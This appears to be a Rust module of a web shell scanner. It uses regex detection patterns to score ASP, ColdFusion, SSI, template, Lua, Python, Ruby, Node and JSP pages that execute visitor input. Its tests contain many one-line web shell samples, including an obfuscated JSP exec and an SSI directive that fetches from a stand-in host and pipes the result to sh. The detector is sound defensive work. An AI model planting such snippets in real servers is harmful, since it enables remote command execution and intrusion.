//! Pages and servers in other languages than PHP: ASP, `ColdFusion`, server-side includes, templates, Lua, Python, Ruby, Node and Java.

use std::collections::HashSet;
use std::sync::OnceLock;

use bstr::ByteSlice;
use regex_automata::meta::Regex;

use super::super::super::commands;
use super::super::common::{extension, has_part, is_below};
use super::score::{Score, regex};
use super::words::{INDIRECT, LOADS, RUNS, WRITES};

/// What a page or a server is written in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Page {
    /// ASP and ASP.NET.
    Asp,
    /// `ColdFusion`.
    Cfml,
    /// Server-side includes.
    Ssi,
    /// Templates with Ruby or JavaScript inside.
    Template,
    /// Lua, and settings of nginx, which may have some inside.
    Lua,
    /// Python.
    Python,
    /// Ruby.
    Ruby,
    /// JavaScript of a server.
    Node,
    /// Java in pages.
    Java,
}

/// The language of a file by its name.
pub(super) fn page(path: &[u8]) -> Option<Page> {
    let is_library =
        has_part(path, &["node_modules", "site-packages", "dist-packages", "gems", "doc", "tests", "test"])
            || is_below(path, &["/usr/lib/python", "/usr/share/nodejs/", "/usr/lib/ruby/"]);
    if is_library {
        return None;
    }
    let page = match extension(path).as_slice() {
        b"asp" | b"aspx" | b"ashx" | b"asmx" | b"ascx" | b"asa" | b"cer" | b"cdx" | b"cshtml" => Page::Asp,
        b"cfm" | b"cfc" | b"cfml" => Page::Cfml,
        b"shtml" | b"shtm" | b"stm" => Page::Ssi,
        b"erb" | b"rhtml" | b"ejs" => Page::Template,
        b"lua" => Page::Lua,
        b"conf" if has_part(path, &["nginx", "openresty"]) => Page::Lua,
        b"py" | b"wsgi" => Page::Python,
        b"rb" | b"ru" => Page::Ruby,
        b"js" | b"mjs" | b"cjs" | b"ts" => Page::Node,
        b"jsp" | b"jspx" | b"jspf" | b"jsw" => Page::Java,
        _ if is_below(path, &["/etc/nginx/", "/etc/openresty/"]) => Page::Lua,
        _ => return None,
    };
    Some(page)
}

/// Patterns, all of which must occur, with their points and what they are.
type Mark = (Page, &'static str, u32, &'static [&'static str]);

const ASKED: &str = r"\brequest\s*(?:\.\s*(?:item|form|querystring|params|headers|cookies|inputstream|binaryread|servervariables))?\s*[\[(.]";

const MARKS: [Mark; 27] = [
    (
        Page::Asp,
        RUNS,
        5,
        &[r"\b(?:eval|execute|executeglobal|executestatement)\s*\(?\s*\(?\s*(?:\x22[^\x22]*\x22\s*[&+]\s*)?request\b"],
    ),
    (Page::Asp, RUNS, 5, &[r"(?:process\.start|\.(?:exec|run|shellexecute))\s*\([^;\n]*\brequest\s*[\[(.]"]),
    (
        Page::Asp,
        RUNS,
        5,
        &[
            r"process\.start\s*\(|new\s+(?:system\.diagnostics\.)?process(?:startinfo)?\b|wscript\.shell",
            r"cmd(?:\.exe)?\b|/bin/(?:ba)?sh|powershell|\.exec\s*\(",
            ASKED,
        ],
    ),
    (
        Page::Asp,
        LOADS,
        5,
        &[
            r"\bassembly\s*\.\s*load\s*\(|\.load\s*\(\s*(?:system\.)?convert",
            r"rijndael|\baes\b|frombase64string|createdecryptor",
            ASKED,
        ],
    ),
    (
        Page::Asp,
        WRITES,
        4,
        &[
            r"(?:writealltext|writeallbytes|createtextfile|savetofile|\bsaveas)\s*\(\s*(?:server\.mappath\s*\(\s*)?request\s*[\[(.]",
        ],
    ),
    (
        Page::Cfml,
        RUNS,
        5,
        &[
            r"<cfexecute\b|\bcfexecute\s*\(|java\.lang\.(?:runtime|processbuilder)",
            r"\b(?:url|form|cgi\.http\w*|cgi\.query_string|cookie)\s*[.\[]",
        ],
    ),
    (Page::Cfml, RUNS, 5, &[r"\b(?:evaluate|iif|precisionevaluate)\s*\(\s*#?(?:url|form|cookie)\s*[.\[]"]),
    (
        Page::Cfml,
        WRITES,
        4,
        &[
            r"(?:<cffile[^>]*action\s*=\s*\x22(?:write|append)\x22[^>]*file\s*=\s*\x22#|\bfilewrite\s*\(\s*)(?:url|form)\.",
        ],
    ),
    (
        Page::Ssi,
        RUNS,
        5,
        &[r"<!--#exec\s+(?:cmd|cgi)\s*=\s*\x22[^\x22]*\$\{?(?:query_string|http_\w+|request_uri|path_info)"],
    ),
    (
        Page::Template,
        RUNS,
        5,
        &[
            r"<%[-=]?[^%]*(?:`[^`\n]*#\{\s*|%x[({\[]\s*#\{\s*|\b(?:system|exec|eval|instance_eval|spawn|io\.popen|open3\.\w+)\s*[( ]\s*)(?:params|request\s*\.|cookies)\b",
        ],
    ),
    (
        Page::Template,
        RUNS,
        5,
        &[
            r"<%[-=]?[^%]*(?:child_process[^%]*\.\s*\w+|\beval|\bfunction)\s*\(\s*(?:\w+\.)?(?:query|body|params|cmd|req|locals)\b",
        ],
    ),
    (
        Page::Lua,
        RUNS,
        5,
        &[
            r"\b(?:io\.popen|os\.execute|loadstring|load)\s*\(\s*(?:[\x22'][^\x22'\n]*[\x22']\s*\.\.\s*)?(?:ngx\.(?:var\.(?:arg_|args|http_|cookie_|query_string|request_body|uri)|unescape_uri\s*\(\s*ngx\.var|req\.|decode_base64\s*\(\s*ngx\.)|kong\.request\.|args\s*[.\[]|r:parseargs)",
        ],
    ),
    (
        Page::Python,
        RUNS,
        5,
        &[
            r"(?:^|[^\w.])(?:os\.(?:system|popen)|commands\.getoutput|subprocess\.(?:getoutput|getstatusoutput)|exec|eval|pty\.spawn|pickle\.loads)\s*\([^\n]*\b(?:request|req|flask\.request|self\.request)\.(?:args|form|values|data|get|params|json|cookies|headers|query\w*|post|body|get_\w+|stream|files)\b",
        ],
    ),
    (
        Page::Python,
        RUNS,
        5,
        &[
            r"\bsubprocess\.\w+\s*\([^\n]*\b(?:request|req)\.(?:args|form|values|data|params|json|cookies|headers|query\w*|post|get|body|get_\w+)\b[^\n]*shell\s*=\s*true",
        ],
    ),
    (
        Page::Python,
        RUNS,
        5,
        &[
            r"basehttprequesthandler|simplehttprequesthandler|requesthandler\b",
            r"(?:^|[^\w.])(?:os\.(?:system|popen)|subprocess\.\w+|exec|eval)\s*\([^\n]*\bself\.(?:headers|path|rfile)\b",
        ],
    ),
    (
        Page::Python,
        RUNS,
        5,
        &[
            r"(?:^|[^\w.])(?:os\.(?:system|popen)|subprocess\.\w+|exec|eval)\s*\([^\n]*\benviron(?:\.get\s*\(|\[)\s*[\x22'](?:query_string|http_|path_info|wsgi\.input)",
        ],
    ),
    (
        Page::Ruby,
        RUNS,
        5,
        &[
            r"`[^`\n]*#\{\s*(?:params|request\.|cookies|env\[[\x22'](?:query_string|http_))|%x[({\[|]\s*#\{\s*(?:params|request\.|cookies)\b",
        ],
    ),
    (
        Page::Ruby,
        RUNS,
        5,
        &[
            r"(?:^|[^\w.])(?:system|exec|eval|instance_eval|class_eval|spawn|io\.popen|open3\.\w+|kernel\.\w+)\s*[( ]\s*(?:\x22[^\x22\n]*#\{\s*)?(?:(?:params|request\.(?:params|body|query_string|env)|cookies)\b|env\[[\x22'](?:query_string|http_))",
        ],
    ),
    (Page::Ruby, RUNS, 5, &[r"\bmarshal\.load\s*\(\s*(?:base64\.\w+\s*\(\s*)?(?:params|cookies|request\.)"]),
    (
        Page::Node,
        RUNS,
        5,
        &[
            r"\bchild_process\b",
            r"(?:(?:^|[^.\w])exec|\b(?:execsync|execfile(?:sync)?|spawn(?:sync)?)|child_process[\x22']\s*\)\s*\.\s*exec)\s*\(\s*(?:[\x22'][^\x22'\n]*[\x22']\s*\+\s*|[\x22'][^\x22'\n]*[\x22']\s*,\s*\[[^\]\n]*|`[^`\n]*\$\{\s*)?(?:string\s*\(\s*|decodeuricomponent\s*\(\s*|buffer\.from\s*\(\s*)?(?:\w{1,16}\.(?:query|body|params|headers|cookies)\b|\w{1,16}\.get\s*\(\s*[\x22']|url\.parse\s*\(\s*\w+\.url|new\s+url\s*\(\s*\w+\.url)",
        ],
    ),
    (
        Page::Node,
        RUNS,
        5,
        &[
            r"(?:(?:^|[^.\w])eval|\bnew\s+function|(?:^|[^.\w])function|\brunin(?:new|this)?context)\s*\(\s*(?:string\s*\(\s*|decodeuricomponent\s*\(\s*|atob\s*\(\s*|buffer\.from\s*\(\s*)?(?:req|request|ctx|q|r)\.(?:request\.)?(?:query|body|params|headers|cookies)\b",
        ],
    ),
    (
        Page::Java,
        RUNS,
        5,
        &[
            r"\.\s*exec\s*\(|\bprocessbuilder\b|processimpl",
            r"request\s*\.\s*get(?:parameter|header|inputstream|reader|querystring|cookies)|\$\{?\s*(?:param|header|cookie)[.\[]",
        ],
    ),
    (
        Page::Java,
        LOADS,
        5,
        &[
            r"\burlclassloader\b|\bdefine(?:anonymous|hidden)?class\b|\blookup\s*\(\s*\)\s*\.\s*define",
            r"request\s*\.\s*get",
        ],
    ),
    (
        Page::Java,
        RUNS,
        5,
        &[
            r"java\.lang\.(?:runtime|processbuilder|processimpl)[\x22']|[\x22']java\.lan",
            r"\.\s*invoke\s*\(|getmethod|getdeclaredmethod",
            r"request\s*\.\s*get",
        ],
    ),
    (
        Page::Java,
        RUNS,
        5,
        &[
            r"scriptenginemanager|elprocessor|expressionfactory|groovyshell|\bognl\b|spelexpressionparser|\bjshell\b",
            r"(?:eval|evaluate|getvalue|createvalueexpression|parseexpression)\s*\([^;\n]*request\s*\.\s*get",
        ],
    ),
    (
        Page::Java,
        WRITES,
        4,
        &[
            r"(?:fileoutputstream|filewriter|randomaccessfile|files\.write)\s*\([^;]*request\s*\.\s*get(?:parameter|header)",
        ],
    ),
    (Page::Java, LOADS, 4, &[r"\bobjectinputstream\s*\([^;]*(?:request\s*\.\s*get|base64)", r"readobject\s*\("]),
];

/// A variable of Python with what a visitor sends.
const GIVEN: &str = r"(?:^|[^\w.])(\w+)\s*=\s*(?:\w+\s*\(\s*)?(?:flask\.)?(?:request|req|self\.request)\.(?:args|form|values|data|get|params|json|cookies|headers|query\w*|post|body|get_\w+)\b";
/// Variables with what a visitor sends, and functions that run a variable, by language.
const FLOWS: [(Page, &str, &str); 5] = [
    (
        Page::Python,
        GIVEN,
        r"(?:^|[^\w.])(?:(?:os\.(?:system|popen)|commands\.getoutput|subprocess\.get(?:status)?output|exec|eval)\s*\(\s*)(\w+)\s*[,)]",
    ),
    (Page::Python, GIVEN, r"\bsubprocess\.\w+\s*\(\s*(\w+)\s*,[^\n]*shell\s*=\s*true"),
    (
        Page::Node,
        r"\b(?:const|let|var)\s+\{?\s*(\w+)[^=\n;]{0,80}=\s*\w{1,16}\.(?:query|body|params|headers|cookies)\b",
        r"(?:(?:^|[^.\w])(?:exec|eval)|\b(?:execsync|spawnsync|spawn|runin(?:new|this)?context))\s*\(\s*(\w+)\s*[,)]",
    ),
    (
        Page::Ruby,
        r"(?:^|[^\w.])(\w+)\s*=\s*(?:params\s*\[|cookies\s*\[|request\.(?:params|body|query_string))",
        r"(?:(?:^|[^\w.])(?:system|exec|eval|io\.popen)\s*[( ]\s*|`\s*#\{\s*|%x[({\[]\s*#\{\s*)(\w+)\s*[)}\n]",
    ),
    (
        Page::Lua,
        r"\b(\w+)\s*=\s*ngx\.(?:var\.(?:arg_|args|http_|cookie_|query_string)|req\.)",
        r"\b(?:io\.popen|os\.execute|loadstring|load)\s*\(\s*(\w+)(?:\s*[,)]|\s*[.\[])",
    ),
];

struct Patterns {
    marks: Vec<(Page, &'static str, u32, Vec<Regex>)>,
    flows: Vec<(Page, Regex, Regex)>,
}

fn patterns() -> Option<&'static Patterns> {
    static PATTERNS: OnceLock<Option<Patterns>> = OnceLock::new();
    let make = || {
        let marks = MARKS.iter().map(|(page, words, points, all)| {
            let all: Option<Vec<Regex>> = all.iter().map(|pattern| regex(pattern)).collect();
            Some((*page, *words, *points, all?))
        });
        let flows = FLOWS.iter().map(|(page, from, to)| Some((*page, regex(from)?, regex(to)?)));
        Some(Patterns { marks: marks.collect::<Option<_>>()?, flows: flows.collect::<Option<_>>()? })
    };
    PATTERNS.get_or_init(make).as_ref()
}

/// Adds the marks of a page.
pub(super) fn marks(page: Page, text: &[u8], score: &mut Score) {
    let Some(patterns) = patterns() else { return };
    let plain = without_comments(page, text);
    let text = plain.as_slice();
    for (_, words, points, all) in patterns.marks.iter().filter(|(of, ..)| *of == page) {
        let found: Option<Vec<usize>> = all.iter().map(|regex| Some(regex.find(text)?.start())).collect();
        if let Some(found) = found {
            score.add(*points, words, found.first().copied());
        }
    }
    // A directive that runs what no page runs.
    if page == Page::Ssi {
        let commands = text.find_iter(b"#exec cmd=\"").take(64).filter_map(|at| text.get(at..)?.split_str("\"").nth(1));
        if commands.into_iter().any(|command| commands::danger(command).is_some()) {
            score.add(5, "a command that fetches or connects", None);
        }
    }
    for (_, from, to) in patterns.flows.iter().filter(|(of, ..)| *of == page) {
        let names = |regex: &Regex| -> Vec<(Vec<u8>, usize)> {
            let all = regex.captures_iter(text).take(512);
            all.filter_map(|found| found.get_group(1))
                .filter_map(|group| Some((text.get(group.range())?.to_vec(), group.start)))
                .collect()
        };
        let inputs: HashSet<Vec<u8>> = names(from).into_iter().map(|(name, _)| name).collect();
        if let Some((_, at)) = names(to).into_iter().find(|(name, _)| inputs.contains(name)) {
            // What else a server does is more than this.
            score.add(if text.len() < 4096 { 5 } else { 4 }, INDIRECT, Some(at));
        }
    }
}

/// A text with blanks in place of lines that are comments, and for Java with its escaped letters as they are.
fn without_comments(page: Page, text: &[u8]) -> Vec<u8> {
    let marks: &[&[u8]] = match page {
        Page::Python | Page::Ruby => &[b"#"],
        Page::Node => &[b"//", b"*"],
        Page::Lua => &[b"#", b"--"],
        Page::Java => return unescaped(text),
        _ => return text.to_vec(),
    };
    let mut out = Vec::with_capacity(text.len());
    for line in text.lines_with_terminator() {
        let code = line.trim_ascii_start();
        if marks.iter().any(|mark| code.starts_with(mark)) && !code.starts_with(b"#{") {
            out.extend(line.iter().map(|byte| if *byte == b'\n' { b'\n' } else { b' ' }));
        } else {
            out.extend_from_slice(line);
        }
    }
    out
}

/// `\u0065` is a letter anywhere in Java, outside of texts too.
fn unescaped(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(b"\\u") {
        let (before, after) = rest.split_at(at);
        out.extend_from_slice(before);
        let digits = after.get(1..).unwrap_or_default();
        let us = digits.iter().take(16).take_while(|byte| **byte == b'u').count();
        let number =
            digits.get(us..us.saturating_add(4)).and_then(|digits| u32::from_str_radix(digits.to_str().ok()?, 16).ok());
        if let Some(byte) = number.and_then(|number| u8::try_from(number).ok()) {
            out.push(byte);
            rest = digits.get(us.saturating_add(4)..).unwrap_or_default();
        } else {
            out.push(b'\\');
            rest = digits;
        }
    }
    out.extend_from_slice(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn points(name: &str, text: &str) -> u32 {
        let mut score = Score::default();
        marks(page(format!("/srv/app/{name}").as_bytes()).unwrap(), text.as_bytes(), &mut score);
        score.points
    }

    #[test]
    fn pages_that_run_what_a_visitor_sends() {
        for (name, text) in [
            ("a.aspx", "<% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>"),
            ("a.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>"),
            (
                "a.ashx",
                "var p = new ProcessStartInfo(); p.FileName = \"/bin/sh\"; p.Arguments = ctx.Request.Form[\"c\"];",
            ),
            (
                "a.aspx",
                "Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(Request.BinaryRead(9), 0, 9))",
            ),
            ("a.asp", "<%eval request(\"x\")%>"),
            ("a.asp", "<% ExecuteGlobal(request.form(\"x\")) %>"),
            ("a.cfm", "<cfexecute name=\"/bin/sh\" arguments=\"-c #url.c#\" timeout=\"5\"></cfexecute>"),
            ("a.cfm", "<cfoutput>#evaluate(form.x)#</cfoutput>"),
            ("a.shtml", "<!--#exec cmd=\"$QUERY_STRING\" -->"),
            ("a.shtml", "<!--#exec cmd=\"curl http://x/y | sh\" -->"),
            ("a.erb", "<%= `#{params[:c]}` %>"),
            ("a.erb", "<% system(params[:x]) %>"),
            ("a.ejs", "<%= process.mainModule.require('child_process').execSync(query.c) %>"),
            ("a.lua", "ngx.say(io.popen(ngx.var.arg_c):read('*a'))"),
            ("a.lua", "local c = ngx.req.get_uri_args()\nos.execute(c.x)"),
            ("a.py", "from flask import request\n@app.route('/x')\ndef x(): return os.popen(request.args['c']).read()"),
            ("a.py", "cmd = request.form.get('c')\nout = subprocess.check_output(cmd, shell=True)"),
            (
                "a.py",
                "class H(BaseHTTPRequestHandler):\n  def do_GET(self): self.wfile.write(os.popen(self.headers['X']).read())",
            ),
            ("a.py", "def app(environ, s): exec(environ['HTTP_X'])"),
            ("a.rb", "get('/x') { `#{params['c']}` }"),
            ("a.ru", "run proc { |env| [200, {}, [eval(env['HTTP_X'])]] }"),
            ("a.rb", "c = params[:c]\nsystem(c)"),
            ("a.js", "module.exports=a=>a.get('/x',(q,r)=>require('child_process').exec(q.query.c,(e,o)=>r.send(o)))"),
            ("a.js", "const { execSync } = require('child_process')\nconst { cmd } = req.body\nres.end(execSync(cmd))"),
            ("a.js", "const cp = require('node:child_process'); cp.spawn('sh', ['-c', req.headers['x']])"),
            ("a.js", "app.post('/x', (req, res) => res.send(new Function(req.body.c)()))"),
            ("a.jsp", "<% Process p = new ProcessBuilder(\"sh\", \"-c\", request.getHeader(\"X\")).start(); %>"),
            ("a.jsp", "<% \\u0052untime.getRuntime().\\u0065xec(request.getParameter(\"c\")); %>"),
            (
                "a.jsp",
                "<% Class.forName(\"java.lang.Runtime\").getMethod(n, String.class).invoke(o, request.getParameter(\"c\")); %>",
            ),
        ] {
            assert!(points(name, text) >= 5, "{name} {text}: {}", points(name, text));
        }
    }

    #[test]
    fn ordinary_pages_do_not() {
        for (name, text) in [
            ("a.aspx", "<% Response.Write(Server.HtmlEncode(Request[\"q\"])); %>"),
            ("a.shtml", "<!--#exec cmd=\"date\" --><!--#echo var=\"QUERY_STRING\" -->"),
            ("a.erb", "<%= params[:q] %> <%= link_to 'system', params %>"),
            ("a.lua", "local a = ngx.var.arg_c\nngx.say(a)\n-- io.popen(ngx.var.arg_c)"),
            ("a.py", "subprocess.run(['convert', request.form['name']], check=True)\nx = eval(expression)"),
            ("a.py", "# os.system(request.args['x'])\npattern.exec(request.args)"),
            ("a.rb", "# runs `#{params[:x]}`\nsystem('ls')\nname = params[:name]"),
            ("a.js", "const cp = require('child_process')\nconst m = /a/.exec(req.query.x)\ncp.exec('ls')"),
            ("a.js", "function(req, query) { }\nvar m = re.exec(url)"),
            ("a.jsp", "<%= request.getParameter(\"name\") %> C:\\users"),
        ] {
            assert!(points(name, text) < 3, "{name} {text}: {}", points(name, text));
        }
        assert_eq!(page(b"/srv/app/node_modules/a/b.js"), None);
    }

    #[test]
    fn letters_of_java_are_read() {
        assert_eq!(unescaped(b"a\\uu0062\\u0063 \\u20ac \\u"), b"abc \\u20ac \\u");
    }
}
